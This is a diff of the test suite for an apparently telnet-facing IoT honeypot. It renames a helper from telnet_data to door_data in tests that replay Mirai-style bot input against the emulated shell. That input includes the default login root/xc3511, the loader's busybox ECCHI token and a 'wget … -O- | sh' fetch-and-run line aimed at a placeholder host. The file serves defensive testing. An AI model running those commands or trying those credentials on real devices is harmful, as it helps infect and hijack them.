@@ -9,7 +9,7 @@ from tests.core.test_defences import World
 
 def shell(w: World, ip: str = "203.0.113.40"):
     bot, t = w.connect(ip)
-    bot.telnet_data(b"root\r\nxc3511\r\n")
+    bot.door_data(b"root\r\nxc3511\r\n")
     t.clear()
     return bot, t
 
@@ -17,7 +17,7 @@ def shell(w: World, ip: str = "203.0.113.40"):
 def test_busybox_is_as_big_as_a_real_one():
     w = World(bot_policy="shell")
     bot, t = shell(w)
-    bot.telnet_data(b"ls -l /bin/busybox\r\n")
+    bot.door_data(b"ls -l /bin/busybox\r\n")
     assert f" {BUSYBOX_SIZE} " in t.value().decode()
     assert 200_000 < BUSYBOX_SIZE < 1_000_000
 
@@ -26,7 +26,7 @@ def test_a_binary_goes_out_in_chunks_and_the_next_answer_after_it():
     w = World(bot_policy="shell")
     bot, t = shell(w)
     # Mirai's loader: the cat and its token in two lines, often one packet.
-    bot.telnet_data(b"/bin/busybox cat /bin/echo\r\n/bin/busybox ECCHI\r\n")
+    bot.door_data(b"/bin/busybox cat /bin/echo\r\n/bin/busybox ECCHI\r\n")
     sizes = []
     w.clock.advance(0)
     while True:
@@ -49,14 +49,14 @@ def test_a_binary_goes_out_in_chunks_and_the_next_answer_after_it():
 def test_short_answers_are_not_delayed():
     w = World(bot_policy="shell")
     bot, t = shell(w)
-    bot.telnet_data(b"echo hi\r\n")
+    bot.door_data(b"echo hi\r\n")
     assert b"hi" in t.value() and t.value().endswith(b"# ")
 
 
 def test_a_command_that_takes_time_on_the_device_holds_what_follows():
     w = World(bot_policy="shell")
     bot, t = shell(w)
-    bot.telnet_data(b"echo before; sleep 3; echo after\r\nuname -s\r\n")
+    bot.door_data(b"echo before; sleep 3; echo after\r\nuname -s\r\n")
     w.clock.advance(0)
     assert b"before" in t.value() and b"after" not in t.value()
     w.clock.advance(2.9)
@@ -69,9 +69,9 @@ def test_a_command_that_takes_time_on_the_device_holds_what_follows():
 def test_an_unfinished_script_shows_the_continuation_prompt():
     w = World(bot_policy="shell")
     bot, t = shell(w)
-    bot.telnet_data(b"for i in 1 2; do\r\n")
+    bot.door_data(b"for i in 1 2; do\r\n")
     assert t.value().endswith(b"> ")
-    bot.telnet_data(b"echo n$i; done\r\n")
+    bot.door_data(b"echo n$i; done\r\n")
     assert t.value().endswith(b"n1\r\nn2\r\n# ")
 
 
@@ -82,7 +82,7 @@ def test_each_sensor_tells_its_own_story_and_always_the_same(tmp_path):
         data.mkdir(exist_ok=True)
         w = World(bot_policy="shell", data=data)
         bot, t = shell(w)
-        bot.telnet_data(b"hostname\r\n")
+        bot.door_data(b"hostname\r\n")
         return t.value().split(b"\r\n")[0]
 
     first = hostname(tmp_path / "a")
@@ -95,7 +95,7 @@ def test_each_sensor_tells_its_own_story_and_always_the_same(tmp_path):
 def test_a_download_from_a_silent_server_fails_after_the_configured_time():
     w = World(bot_policy="shell", shell_net_timeout=2.0)
     bot, t = shell(w)
-    bot.telnet_data(b"wget http://198.51.100.9/x -O- | sh; echo done\r\n")
+    bot.door_data(b"wget http://198.51.100.9/x -O- | sh; echo done\r\n")
     w.clock.advance(0)
     assert t.value().endswith(b"(198.51.100.9:80)\r\n")
     w.clock.advance(1.9)
